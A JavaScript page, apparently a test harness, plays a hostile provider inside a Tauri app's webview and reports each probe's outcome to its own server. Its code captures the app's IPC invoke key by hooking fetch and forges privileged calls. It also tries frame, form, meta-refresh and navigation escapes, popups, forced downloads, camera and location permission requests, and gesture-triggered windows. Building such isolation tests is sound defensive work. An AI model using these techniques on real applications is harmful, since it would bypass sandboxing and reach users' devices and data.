// A provider's page that tries everything it should not be able to do, and tells its own server
// what came of it. Written as an attacker would: nothing of the app is asked nicely.
"use strict";

const plan = window.PLAN;
const made = new Blob(["<script>parent.ran='blob'</script>"], { type: "text/html" });
plan.places.blob = URL.createObjectURL(made);
const pause = (millis) => new Promise((done) => setTimeout(done, millis));
const report = (name, what) =>
  fetch(`/report/${name}`, { method: "POST", body: JSON.stringify(what) });

// Each answer, or that none came.
const settled = (promise) =>
  Promise.race([
    Promise.resolve(promise).then(
      (value) => ["answered", String(JSON.stringify(value))],
      (error) => ["refused", String(error && error.message ? error.message : error)],
    ),
    pause(4000).then(() => ["silent", ""]),
  ]).then(([how, what]) => ({ how, what }));

async function commands() {
  const internals = window.__TAURI_INTERNALS__;
  const found = { internals: typeof internals, global: typeof window.__TAURI__, calls: {} };
  if (internals) {
    for (const command of plan.commands) {
      const call = settled(internals.invoke(command, plan.arguments));
      found.calls[command] = await call;
    }
  }
  await report("commands", found);
}

// Past the library: the key it signs its calls with is caught on its way, and calls are made up.
async function forged() {
  const found = {};
  const internals = window.__TAURI_INTERNALS__;
  const honest = window.fetch;
  let key = null;
  window.fetch = (address, options) => {
    if (String(address).startsWith("ipc:")) {
      const headers = new Headers(options && options.headers);
      key = headers.get("Tauri-Invoke-Key") || key;
    }
    return honest(address, options);
  };
  await settled(internals.invoke("start", {}));
  window.fetch = honest;
  found.key = key !== null;
  const forge = (extra) =>
    settled(
      new Promise((resolve, reject) => {
        const callback = internals.transformCallback(resolve);
        const error = internals.transformCallback(reject);
        window.ipc.postMessage(
          JSON.stringify({
            cmd: "start",
            callback,
            error,
            payload: {},
            options: {},
            url: "tauri://localhost/index.html",
            __TAURI_INVOKE_KEY__: key,
            ...extra,
          }),
        );
      }),
    );
  found.posted = await forge({});
  found.framed = await forge({ options: { headers: { Origin: "tauri://localhost" } } });
  const headers = {
    "Content-Type": "application/json",
    "Tauri-Callback": "1",
    "Tauri-Error": "2",
    "Tauri-Invoke-Key": key || "",
  };
  found.fetched = await settled(
    honest("ipc://localhost/start", { method: "POST", body: "{}", headers }).then(
      async (answer) => `${answer.headers.get("Tauri-Response")}: ${await answer.text()}`,
    ),
  );
  await report("forged", found);
}

async function frames() {
  const found = {};
  for (const [name, address] of Object.entries(plan.places)) {
    window.ran = null;
    const frame = document.createElement("iframe");
    frame.src = address;
    document.body.append(frame);
    await pause(400);
    let at;
    try {
      at = frame.contentWindow.location.href;
    } catch {
      at = "elsewhere";
    }
    found[name] = { at, ran: window.ran };
    frame.remove();
  }
  await report("frames", found);
}

async function forms() {
  for (const address of Object.values(plan.places)) {
    for (const target of ["_self", "_blank"]) {
      const form = document.createElement("form");
      form.method = "post";
      form.action = address;
      form.target = target;
      document.body.append(form);
      form.submit();
      await pause(150);
      form.remove();
    }
  }
  await report("forms", "still here");
}

async function meta() {
  for (const address of Object.values(plan.places)) {
    const refresh = document.createElement("meta");
    refresh.httpEquiv = "refresh";
    refresh.content = `0;url=${address}`;
    document.head.append(refresh);
    await pause(200);
    refresh.remove();
  }
  await report("meta", "still here");
}

async function locations() {
  for (const address of [...Object.values(plan.places), ...plan.lookalikes]) {
    try {
      window.location = address;
    } catch {
      // Some addresses are refused by the engine itself.
    }
    await pause(250);
  }
  await report("locations", "still here");
}

async function popups() {
  const opened = [];
  for (const address of Object.values(plan.places)) {
    opened.push(window.open(address) !== null);
  }
  await report("popups", opened);
}

async function downloads() {
  for (const address of ["/attachment", "data:application/octet-stream,loot-of-isolation"]) {
    const link = document.createElement("a");
    link.href = address;
    link.download = "loot-of-isolation.bin";
    document.body.append(link);
    link.click();
    await pause(500);
    link.remove();
  }
  await report("downloads", "still here");
}

async function permissions() {
  const media = navigator.mediaDevices;
  const found = {
    notification: typeof Notification === "undefined" ? "none" : await Notification.requestPermission(),
    camera: media ? await settled(media.getUserMedia({ video: true })) : { how: "refused" },
    place: await settled(
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    ),
  };
  await report("permissions", found);
}

// With a person's hand: a key is pressed, so new windows are not held back by the engine.
const waiting = Object.values(plan.places);
document.addEventListener("keydown", async () => {
  const address = waiting.shift();
  if (address) {
    const opened = window.open(address);
    const link = document.createElement("a");
    link.href = address;
    link.target = "_blank";
    document.body.append(link);
    link.click();
    await report(`pressed-${waiting.length}`, opened !== null);
  }
});

async function main() {
  await report("found", {
    cookie: document.cookie,
    stored: localStorage.getItem("lingers"),
    opener: window.opener !== null,
  });
  document.cookie = "lingers=1; max-age=86400";
  localStorage.setItem("lingers", "1");
  if (plan.act === "attack") {
    for (const attack of [commands, forged, frames, forms, meta, locations, popups, downloads, permissions]) {
      await attack();
    }
    await report("done", "still here");
  }
  for (;;) {
    const order = await (await fetch("/order")).text();
    if (order === "close") {
      window.close();
    } else if (order) {
      window.location = order;
      return;
    }
    await pause(150);
  }
}

main();
